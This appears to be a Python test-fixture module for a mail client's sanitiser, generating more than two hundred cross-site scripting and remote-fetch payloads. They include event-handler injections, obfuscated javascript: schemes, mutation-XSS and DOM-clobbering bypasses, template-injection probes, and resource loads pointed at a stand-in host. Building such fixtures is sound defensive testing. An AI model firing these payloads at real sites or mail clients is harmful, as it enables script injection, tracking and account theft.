"""More than two hundred attempts to run something, or to fetch something, from a mail's body, names or file names (S1).

`PING` stands for what would be called or fetched; a page on which any of it happens fails its test.
"""

from itertools import product

HOST = "https://ping.invalid"
RUN = "window.pwned=1"

_TAGS = ("img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "embed", "marquee", "select",
         "textarea", "keygen", "style", "math", "table", "a", "div", "form")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "java\nscript:{0}", "&#106;avascript:{0}",
    "&#x6A;avascript:{0}", "\x01javascript:{0}", "vbscript:{0}", "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", "javascript&colon;{0}", "  javascript:{0}",
)  # fmt: skip
_HOLDERS = ('<a href="{}">press</a>', '<iframe src="{}"></iframe>', '<form action="{}"><button>go</button></form>')
_FETCHES = (
    '<img src="{0}/a.png">', '<img srcset="{0}/b.png 1x">', '<picture><source srcset="{0}/c.png"><img></picture>',
    '<video src="{0}/d.mp4" autoplay></video>', '<audio src="{0}/e.mp3" autoplay></audio>',
    '<video poster="{0}/f.png"></video>', '<link rel="stylesheet" href="{0}/g.css">',
    '<link rel="prefetch" href="{0}/h">', '<link rel="dns-prefetch" href="{0}">', '<style>@import "{0}/i.css";</style>',
    '<style>body{{background:url({0}/j.png)}}</style>', '<div style="background:url({0}/k.png)">x</div>',
    '<div style="background-image:url(\'{0}/l.png\')">x</div>', '<table background="{0}/m.png"><tr><td>x</td></tr></table>',
    '<td background="{0}/n.png">x</td>', '<body background="{0}/o.png">', '<input type="image" src="{0}/p.png">',
    '<object data="{0}/q"></object>', '<embed src="{0}/r">', '<iframe src="{0}/s"></iframe>',
    '<meta http-equiv="refresh" content="0;url={0}/t">', '<base href="{0}/">', '<svg><image href="{0}/u.png"/></svg>',
    '<svg><use href="{0}/v.svg#x"/></svg>', '<svg><feImage href="{0}/w.png"/></svg>', '<script src="{0}/x.js"></script>',
    '<img src="//ping.invalid/y.png">', '<img src="\\\\ping.invalid\\z.png">', '<div style="list-style:url({0}/1.png)">x</div>',
    '<div style="content:url({0}/2.png)">x</div>', '<div style="cursor:url({0}/3.cur),auto">x</div>',
    '<a ping="{0}/4" href="#">x</a>', '<bgsound src="{0}/5">', '<frameset><frame src="{0}/6"></frameset>',
    '<style>@font-face{{font-family:x;src:url({0}/7)}}*{{font-family:x}}</style>', '<input autofocus onfocus="fetch(\'{0}/8\')">',
)  # fmt: skip
_ODD = (
    "<script>{0}</script>", "<SCRIPT>{0}</SCRIPT>", "<scr<script>ipt>{0}</scr</script>ipt>", "<script/x>{0}</script>",
    "<<script>{0}//<</script>", '"><script>{0}</script>', "'><script>{0}</script>", "</title><script>{0}</script>",
    "</textarea><script>{0}</script>", "</style><script>{0}</script>", "<!--><script>{0}</script>-->",
    "<![CDATA[<script>{0}</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror={0}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={0}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={0}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
    "<svg><style><img src=x onerror={0}></style></svg>", "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to={0}>",
    "<svg><a xlink:href=\"javascript:{0}\"><text y=20>x</text></a></svg>", "<svg><foreignObject><script>{0}</script></foreignObject></svg>",
    "<math href=\"javascript:{0}\">x</math>", "<template><script>{0}</script></template>",
    "<xmp><script>{0}</script></xmp>", "<plaintext><script>{0}</script>", "<isindex action=javascript:{0} type=image>",
    "<img name=body><img name=forms>", "<form id=body><input name=cookie>", "<a id=location href=x>x</a>", "<p id=composer>x</p>",
    "<div class=\"composer rail tabbar\">x</div>", "<dialog open id=help>x</dialog>", "<button formaction=javascript:{0}>x</button>",
    "<div hx-get=/desk/mine hx-trigger=load>x</div>", "<a data-key=r href=javascript:{0}>x</a>", "<input data-search>",
    "<div style=\"position:fixed;inset:0;z-index:99\">over everything</div>", "<div style=\"width:expression({0})\">x</div>",
    "<div style=\"behavior:url(#x)\">x</div>", "<div style=\"-moz-binding:url(#x)\">x</div>", "{{{{ 7*7 }}}}", "{{% debug %}}",
    "${{7*7}}", "%(x)s", "<img src=x:x onerror\x00={0}>", "<img/src='x'/onerror={0}>", "<a href=\"&#0000106avascript:{0}\">x</a>",
    "\u202e<script>{0}</script>", "<script>{0}</script", "<iframe srcdoc=\"<script>parent.{0}</script>\"></iframe>",
)  # fmt: skip

PAYLOADS: list[str] = [
    *(f"<{tag} src=x {event}={RUN} autofocus open tabindex=1>x</{tag}>" for tag, event in product(_TAGS, _EVENTS)),
    *(holder.format(scheme.format(RUN)) for holder, scheme in product(_HOLDERS, _SCHEMES)),
    *(fetch.format(HOST) for fetch in _FETCHES),
    *(odd.format(RUN) for odd in _ODD),
]

# Short ones for names, subjects and file names.
SHORT: list[str] = [
    text for text in PAYLOADS if len(text) < 90 and "\n" not in text and "\r" not in text and "\0" not in text
]
